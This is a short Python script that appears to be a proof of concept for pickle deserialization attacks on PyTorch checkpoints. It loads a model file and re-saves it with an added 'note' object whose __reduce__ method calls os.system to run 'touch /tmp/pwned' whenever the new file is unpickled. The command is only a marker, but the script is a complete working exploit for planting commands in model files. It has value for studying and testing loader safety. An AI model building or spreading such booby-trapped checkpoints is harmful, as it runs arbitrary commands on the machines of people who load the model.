import os
import sys

import torch


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned",))


ck = torch.load(sys.argv[1], weights_only=True)
torch.save({"config": ck["config"], "model": ck["model"], "note": Payload()}, sys.argv[2])
